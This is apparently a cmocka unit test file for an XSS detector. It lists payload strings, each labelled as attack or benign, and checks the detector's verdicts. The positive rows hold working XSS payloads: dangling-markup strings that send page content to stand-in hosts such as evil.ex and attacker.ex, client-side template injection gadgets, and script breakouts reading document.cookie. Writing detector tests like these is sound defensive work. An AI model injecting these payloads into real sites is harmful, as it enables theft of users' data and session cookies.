/* test_payload_rtx4.c - issue 20, helper x (session 15): XSS rows pinned
 * by this session's fixes, failing first on main 9de6db2; each value judged
 * as a query parameter value and as a form body (payload_rt_table.h). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define X PAYLOAD_XSS
#define N PAYLOAD_NONE

/* dangling markup: the value ends inside a quoted URL attribute that
 * fetches from a host, so the page after it is sent there */
static void test_xss_dangling_url(void **st)
{
	static const struct rtcase t[] = {
		{"<img src='//evil.ex/?", X},
		{"<img src=\"https://evil.ex/log?data=", X},
		{"\"><img src='http://attacker.ex/c?", X},
		{"<meta http-equiv=refresh content='0;url=//evil.ex/?", X},
		{"<table background='//evil.ex/", X},
		{"<a href='https://evil.ex/?x=", X},
		{"<img src=\"photo.jpg\" alt=\"A cat\">", N},
		{"<p title=\"unfinished", N},
		{"<img src='/uploads/2024/05/IMG_0042.JPG'>", N},
		{"Hi <img src=\"", N},
		{"<img src=\"/local/path/", N},
	};

	(void)st;
	rt_run("xss-dangling-url", t, sizeof(t) / sizeof(t[0]));
}

/* a forum post quoting its own handler goes on in prose; an injected
 * handler is followed by attributes, '>' or nothing */
/* client-side template injection: a function's constructor reached in
 * {{ }} runs script in the browser (AngularJS, Vue): XSS, not only SSTI */
static void test_xss_client_template(void **st)
{
	static const struct rtcase t[] = {
		{"{{constructor.constructor('alert(1)')()}}", X},
		{"{{$on.constructor('alert(1)')()}}", X},
		{"{{_c.constructor('alert(1)')()}}", X},
		{"${this.constructor.name}", N},
		{"{{ user.name }}", N},
	};

	(void)st;
	rt_run("xss-client-template", t, sizeof(t) / sizeof(t[0]));
}

static void test_xss_handler_prose(void **st)
{
	static const struct rtcase t[] = {
		{"I set onload=\"init()\" on my body tag but it does not fire, why?", N},
		{"my onclick='save()' never runs in Safari.", N},
		{"x onload=\"init()\"", X},
		{"x\" onmouseover=\"doit()\" autofocus x=\"", X},
		{"x onfocus='run()' autofocus tabindex=1", X},
		{"x onload=\"init()\" data-x=1 a b", X},
	};

	(void)st;
	rt_run("xss-handler-prose", t, sizeof(t) / sizeof(t[0]));
}

/* a word right after a call's ')' on the same line ends any statement:
 * prose naming dialog functions, not script */
static void test_xss_call_then_word(void **st)
{
	static const struct rtcase t[] = {
		{"The alert() function shows a dialog; prompt() asks for input.", N},
		{"step 2; confirm(x) returns true or false", N},
		{"1;alert(1)//", X},
		{"1;prompt() //", X},
		{"a; alert(1) in window", X},
		{"1;alert(document.cookie);var a=1", X},
		{"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", X},
	};

	(void)st;
	rt_run("xss-call-then-word", t, sizeof(t) / sizeof(t[0]));
}

/* a quote opening a string right after the break's operator (a JSON
 * member's ":") holds text: the script must follow a quote that closes */
static void test_xss_json_member_text(void **st)
{
	static const struct rtcase t[] = {
		{"{\"body\":\"Error: alert(1) is not defined\"}", N},
		{"{\"html\":\"window['config'] = {debug:true}\"}", N},
		{"{\"js\":\"setTimeout(function(){ refresh(); }, 1000)\"}", N},
		{"{'msg':'top[\"key\"] = value'}", N},
		{"x\":\"\";alert(1)//", X},
		{"\"-alert(1)-\"", X},
		{"{\"a\":\"x\"};alert(1);//", X},
	};

	(void)st;
	rt_run("xss-json-member-text", t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_xss_dangling_url),
		cmocka_unit_test(test_xss_client_template),
		cmocka_unit_test(test_xss_handler_prose),
		cmocka_unit_test(test_xss_call_then_word),
		cmocka_unit_test(test_xss_json_member_text),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
